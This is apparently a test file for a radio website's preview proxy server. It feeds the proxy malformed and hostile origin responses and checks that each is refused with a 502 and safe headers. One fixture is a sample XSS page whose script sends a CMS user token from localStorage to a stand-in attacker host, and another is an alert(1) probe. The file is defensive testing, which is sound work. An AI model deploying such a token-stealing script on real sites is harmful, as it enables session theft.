import { spawn, type ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { RADIO, STREAM_URL } from '@/config/radio';

/**
 * The preview server (scripts/serve.mjs) relaying a radio origin that answers anything at all: a raw TCP stand-in
 * (node:net) writes what no HTTP server library would. Whatever it sends, the listener gets a 502, or a cut connection
 * where audio was already flowing, and the next request is served as usual. Only audio passes on the stream and its
 * relay, only JSON on the status, each with nosniff and a sandbox policy, so that an origin's answer is never a page
 * of this site. Ports 8310–8311.
 */
const projectRoot = path.resolve(import.meta.dirname, '../..');
const ORIGIN_PORT = 8310;
const SITE_PORT = 8311;
const SITE = `http://127.0.0.1:${SITE_PORT}`;
const AUDIO = Buffer.from([0xff, 0xfb, 0x90, 0x00]);
const STATUS_JSON = '{"icestats":{"source":{"title":"Morning dew"}}}';
const RELAY = RADIO.relays[0] ?? null;
/** Every path that relays the origin: the stream, its relay (if the config has one), the status. */
const RELAYED = [STREAM_URL, ...(RELAY ? [RELAY] : []), RADIO.statusPath];
const HOSTILE_PAGE =
  '<!doctype html><title>Sign in</title><script>fetch("https://evil.example/?" + localStorage.getItem("decap-cms-user"))</script>';

/** What the stand-in does with one connection, once it has read the request's path. */
type Behaviour = (socket: net.Socket, path: string) => void;

const raw =
  (text: string): Behaviour =>
  (socket) =>
    socket.end(Buffer.from(text, 'latin1'));
const WELL: Behaviour = (socket, requested) => {
  const [type, body] = requested.startsWith('/status')
    ? ['application/json', Buffer.from(STATUS_JSON)]
    : ['audio/mpeg', AUDIO];
  socket.end(
    Buffer.concat([
      Buffer.from(
        `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`,
      ),
      body,
    ]),
  );
};

/** Answers the stand-in gives before its first byte of body: each must be a 502 on both paths. */
const REFUSED_HEADS: [string, Behaviour][] = [
  [
    'a status below 100 (HTTP/1.1 099)',
    raw('HTTP/1.1 099 Low\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'),
  ],
  ['a status above 599 (HTTP/1.1 600)', raw('HTTP/1.1 600 High\r\nContent-Type: audio/mpeg\r\n\r\nabc')],
  ['a four-digit status', raw('HTTP/1.1 1000 Odd\r\nContent-Type: audio/mpeg\r\n\r\nabc')],
  [
    'an upgrade (HTTP/1.1 101)',
    raw('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\nabc'),
  ],
  ['an informational answer and nothing after it', raw('HTTP/1.1 100 Continue\r\n\r\n')],
  ['a header line without a colon', raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nNot a header\r\n\r\nabc')],
  [
    'a control character in a header',
    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nicy-name: a\u0001b\r\n\r\nabc'),
  ],
  [
    'two different lengths',
    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc'),
  ],
  ['no HTTP at all', raw('hello there\r\n\r\n')],
  ['a reset before any answer', (socket) => socket.resetAndDestroy()],
  ['a close before any answer', (socket) => socket.end()],
];

/** Answers of any other type than the path carries (audio, or JSON for the status): a 502 on every path. */
const pageAnswer = (type: string | null): Behaviour =>
  raw(
    `HTTP/1.1 200 OK\r\n${type === null ? '' : `Content-Type: ${type}\r\n`}Content-Length: ${HOSTILE_PAGE.length}\r\n\r\n${HOSTILE_PAGE}`,
  );
const OTHER_TYPES: [string, Behaviour][] = [
  ['an HTML page with a script', pageAnswer('text/html; charset=utf-8')],
  [
    'an HTML page under 404',
    raw(
      `HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: ${HOSTILE_PAGE.length}\r\n\r\n${HOSTILE_PAGE}`,
    ),
  ],
  ['an SVG image with a script', pageAnswer('image/svg+xml')],
  ['plain text', pageAnswer('text/plain')],
  ['an answer with no type, which a browser would sniff', pageAnswer(null)],
  ['a type naming audio only after a parameter', pageAnswer('text/html; x=audio/mpeg')],
];

/** Answers cut off after their head: a 502 for the status (relayed whole), a cut for the stream (already flowing). */
const CUT_BODIES: [string, Behaviour][] = [
  [
    'a body shorter than its length',
    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 1000\r\n\r\n{"icestats":'),
  ],
  [
    'a chunked body cut inside a chunk',
    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nTransfer-Encoding: chunked\r\n\r\n64\r\n{"icestats":'),
  ],
  [
    'a malformed chunk',
    raw('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n'),
  ],
  [
    'a reset midway',
    (socket) => {
      socket.write('HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 1000\r\n\r\n{"icestats":');
      setTimeout(() => socket.resetAndDestroy(), 50);
    },
  ],
];

let behaviour: Behaviour = WELL;
let origin: net.Server;
let site: ChildProcess;
let scratch: string;

beforeAll(async () => {
  origin = net.createServer((socket) => {
    socket.on('error', () => {});
    let head = '';
    socket.on('data', (chunk: Buffer) => {
      head += chunk.toString('latin1');
      if (!head.includes('\r\n\r\n')) return;
      socket.removeAllListeners('data');
      behaviour(socket, head.split(' ')[1] ?? '/');
    });
  });
  await new Promise<void>((resolve) => origin.listen(ORIGIN_PORT, '127.0.0.1', resolve));
  mkdirSync(path.join(projectRoot, '.tmp'), { recursive: true });
  scratch = mkdtempSync(path.join(projectRoot, '.tmp', 'proxy-'));
  writeFileSync(path.join(scratch, 'index.html'), '<!doctype html><title>Home</title><p>Home</p>');
  site = spawn(
    path.join(projectRoot, 'node_modules/.bin/node'),
    ['scripts/serve.mjs', '--dir', scratch, '--port', String(SITE_PORT)],
    {
      cwd: projectRoot,
      stdio: ['ignore', 'pipe', 'pipe'],
      env: {
        ...process.env,
        RADIO_ORIGIN: `http://127.0.0.1:${ORIGIN_PORT}${RADIO.mount}`,
        RADIO_STATUS_URL: `http://127.0.0.1:${ORIGIN_PORT}/status-json.xsl`,
        RADIO_RELAYS: `http://127.0.0.1:${ORIGIN_PORT}${RADIO.mount}`,
        RADIO_PROXY_CUT_AFTER_MS: '',
        RADIO_PROXY_CUT_ABRUPT: '',
        RADIO_PROXY_STRIP_ICY: '',
      },
    },
  );
  await new Promise<void>((resolve, reject) => {
    site.stdout?.on('data', (chunk: Buffer) => chunk.toString().includes('Serving') && resolve());
    site.once('exit', (code) => reject(new Error(`serve.mjs exited with ${code}`)));
  });
});

afterAll(async () => {
  site.kill('SIGTERM');
  await new Promise((resolve) => origin.close(resolve));
  rmSync(scratch, { recursive: true, force: true });
});

interface Answer {
  status: number;
  type: string | undefined;
  nosniff: string | undefined;
  policy: string | undefined;
  body: Buffer;
  /** Whether the body ended as a whole answer does, rather than with its connection cut. */
  whole: boolean;
}

/** One GET on its own connection; a connection refused or reset before any answer rejects. */
function get(url: string): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = http.get(url, { agent: false }, (res) => {
      const chunks: Buffer[] = [];
      const done = (whole: boolean) =>
        resolve({
          status: res.statusCode ?? 0,
          type: res.headers['content-type'],
          nosniff: res.headers['x-content-type-options']?.toString(),
          policy: res.headers['content-security-policy']?.toString(),
          body: Buffer.concat(chunks),
          whole,
        });
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done(res.complete));
      res.on('error', () => done(false));
    });
    req.on('error', reject);
    req.setTimeout(15_000, () => req.destroy(new Error(`no answer from ${url} in 15 s`)));
  });
}

/** What every answer relayed from the origin carries, so that no browser takes it for a page of this site. */
const PROXIED = { nosniff: 'nosniff', policy: 'sandbox' };

/** The preview server still runs and relays a well-behaved origin: audio on the stream, the JSON on the status. */
async function expectServedAsUsual() {
  behaviour = WELL;
  expect(site.exitCode, 'the preview server is still running').toBeNull();
  for (const address of RELAYED) {
    const answer = await get(`${SITE}${address}`);
    const json = address === RADIO.statusPath;
    expect(answer).toMatchObject({
      status: 200,
      type: json ? 'application/json' : 'audio/mpeg',
      whole: true,
      ...PROXIED,
    });
    expect(answer.body).toEqual(json ? Buffer.from(STATUS_JSON) : AUDIO);
  }
}

describe('the preview server relaying an origin that answers anything', { timeout: 30_000 }, () => {
  it('relays a well-behaved origin', expectServedAsUsual);

  it.each(REFUSED_HEADS)(
    'answers %s with 502 on the stream and the status, and serves the next request',
    async (_what, hostile) => {
      behaviour = hostile;
      for (const address of [`${SITE}${STREAM_URL}`, `${SITE}${RADIO.statusPath}`]) {
        const answer = await get(address);
        expect({ address, status: answer.status, type: answer.type }).toEqual({
          address,
          status: 502,
          type: 'text/plain',
        });
      }
      await expectServedAsUsual();
    },
  );

  it.each(OTHER_TYPES)(
    'answers %s with 502 on the stream, its relay and the status: never text/html',
    async (_what, hostile) => {
      behaviour = hostile;
      for (const address of RELAYED) {
        const answer = await get(`${SITE}${address}`);
        expect({
          address,
          status: answer.status,
          type: answer.type,
          nosniff: answer.nosniff,
          policy: answer.policy,
        }).toEqual({ address, status: 502, type: 'text/plain', ...PROXIED });
        expect(answer.body.toString()).not.toContain('<script');
      }
      await expectServedAsUsual();
    },
  );

  it.each(CUT_BODIES)(
    'answers %s with 502 on the status and a cut connection on the stream, and serves the next request',
    async (_what, hostile) => {
      behaviour = hostile;
      const status = await get(`${SITE}${RADIO.statusPath}`);
      expect(status).toMatchObject({ status: 502, type: 'text/plain' });
      // The stream's head went out with the origin's, before its body was cut: the listener's connection is cut too,
      // so that the player reconnects rather than take the stream for ended.
      const stream = await get(`${SITE}${STREAM_URL}`).catch(() => null);
      if (stream)
        expect(stream.status === 502 || !stream.whole, `the stream answered ${stream.status}, whole`).toBe(true);
      await expectServedAsUsual();
    },
  );
});
